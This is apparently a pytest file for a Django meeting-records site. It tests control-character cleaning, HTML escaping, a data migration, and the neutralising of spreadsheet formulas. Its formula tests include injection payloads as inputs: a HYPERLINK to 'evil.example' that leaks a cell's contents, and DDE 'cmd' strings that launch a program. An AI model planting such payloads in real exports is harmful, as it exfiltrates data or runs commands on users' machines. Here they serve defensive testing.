"""The text rule (core.text) and the migration that applied it to stored rows."""

import datetime as dt
import importlib

import pytest
from django.apps import apps
from django.db import connection

from commission.models import Person
from core.text import clean_text, feed_html, restore_spreadsheet_text, spreadsheet_text
from meetings.models import Meeting
from tests.factories import make_meeting


@pytest.mark.parametrize(
    ("raw", "single_line", "multi_line"),
    [
        ("Talks\x0bwith Japan", "Talks with Japan", "Talks\nwith Japan"),  # Word's line break
        ("Page\x0cbreak", "Page break", "Page\nbreak"),
        ("one\r\ntwo", "one two", "one\r\ntwo"),
        ("tab\there", "tab here", "tab\there"),
        ("bell\x07 nul\x00 esc\x1b del\x7f c1\x9b", "bell nul esc del c1", "bell nul esc del c1"),
        ("no surrogate \ud800 nor \ufffe", "no surrogate  nor ", "no surrogate  nor "),
        ("Кириллица — ünïcode “quotes”…", "Кириллица — ünïcode “quotes”…", None),
    ],
)
def test_clean_text_keeps_lines_only_where_text_has_lines(raw, single_line, multi_line):
    assert clean_text(raw, multiline=False) == single_line
    assert clean_text(raw, multiline=True) == (multi_line or single_line)


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A2,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A2,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x0b=1+1", "\n=1+1"),  # a line break first: not a formula
        ("-5 °C in Minsk", "'-5 °C in Minsk"),
        ("-5", "-5"),  # just a number: harmless, left alone
        ("+3.25", "+3.25"),
        ("-1e3", "-1e3"),
        ("Talks with Japan", "Talks with Japan"),
        ("", ""),
    ],
)
def test_spreadsheet_text_makes_formulas_plain_text(raw, cell):
    assert spreadsheet_text(raw) == cell


def test_an_imported_cell_loses_the_apostrophe_its_export_added():
    for text in ('=HYPERLINK("x")', "-5 °C in Minsk", "@home", "plain", "'quoted'"):
        assert restore_spreadsheet_text(spreadsheet_text(text)) == text


def test_feed_html_escapes_an_editors_markup():
    assert feed_html("<b>bold</b> & more") == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; more</p>"


def test_the_model_api_stores_text_without_control_characters(db):
    meeting = Meeting.objects.create(
        title_en="Talks\x0bwith Japan",
        title_ru="Переговоры\x0bс Японией",
        summary_en="First line\x0bsecond line\x01",
        slug="talks",
        date=dt.date(2026, 1, 26),
    )
    meeting.refresh_from_db()
    assert meeting.title_en == "Talks with Japan"
    assert meeting.title_ru == "Переговоры с Японией"
    assert meeting.summary_en == "First line\nsecond line"
    meeting.title_be = "Перамовы\x0bз Японіяй"
    meeting.place_en = "Minsk\x0c"
    meeting.save()
    meeting.refresh_from_db()
    assert (meeting.title_be, meeting.place_en) == ("Перамовы з Японіяй", "Minsk ")
    # The history rows are made from the cleaned instance.
    assert {row.title_en for row in meeting.history.all()} == {"Talks with Japan"}
    assert not any("\x0b" in (row.title_be or "") for row in meeting.history.all())
    person = Person.objects.create(name_en="Sergei\x0bAleinik", slug="aleinik")
    assert Person.objects.get(pk=person.pk).name_en == "Sergei Aleinik"


def test_saving_in_another_language_never_copies_english_text_into_it(db):
    from django.utils import translation

    meeting = make_meeting(title_en="Talks")
    # An old row: the English column and the translated field's own column hold a tab
    # (written in SQL: modeltranslation's manager maps ``title`` to the active language).
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE meetings_meeting SET title = %s, title_en = %s WHERE id = %s",
            ["Old\x0btalks", "Old\x0btalks", meeting.pk],
        )
    with translation.override("ru"):
        meeting = Meeting.objects.get(pk=meeting.pk)
        meeting.place_ru = "Минск"
        meeting.save()
    meeting.refresh_from_db()
    assert meeting.title_en == "Old talks"
    assert meeting.title_ru in (None, "")


def test_the_migration_cleans_rows_and_history_written_before_the_rule(db):
    meeting = make_meeting(title_en="Clean title", summary_en="Clean summary")
    # QuerySet.update() bypasses the pre_save rule, as rows saved before it did.
    Meeting.objects.filter(pk=meeting.pk).update(
        title_en="Old\x0btitle", title="Old\x0btitle", summary_en="Old\x0bsummary\x02"
    )
    meeting.history.update(title_en="History\x0btitle")
    migration = importlib.import_module("commission.migrations.0005_clean_control_characters")
    migration.clean_stored_text(apps, None)
    stored = Meeting.objects.values("title_en", "title", "summary_en").get(pk=meeting.pk)
    assert stored == {
        "title_en": "Old title",
        "title": "Old title",
        "summary_en": "Old\nsummary",
    }
    assert set(meeting.history.values_list("title_en", flat=True)) == {"History title"}
